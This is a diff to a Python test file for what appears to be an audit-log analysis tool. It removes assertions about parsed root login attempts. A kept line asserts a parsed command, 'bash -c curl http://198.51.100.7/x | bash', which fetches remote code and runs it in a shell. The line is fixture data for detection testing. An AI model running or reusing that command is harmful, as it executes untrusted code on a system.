@@ -26,11 +26,6 @@ def test_records_become_events_with_commands_and_log_ins() -> None:
     assert (artifact.lines, artifact.parsed) == (6, 5)
     assert events[0].command.rstrip() == "bash -c curl http://198.51.100.7/x | bash"
     assert events[0].time.isoformat() == "2026-03-01T10:00:00.123000+00:00"
-    logins = list(audit_log.log_ins(events, source="x"))
-    assert [(login.accepted, login.user, login.address) for login in logins] == [
-        (False, "root", "203.0.113.9"),
-        (True, "root", "203.0.113.9"),
-    ]
 
 
 def test_executed_commands_and_accounts_are_findings() -> None:
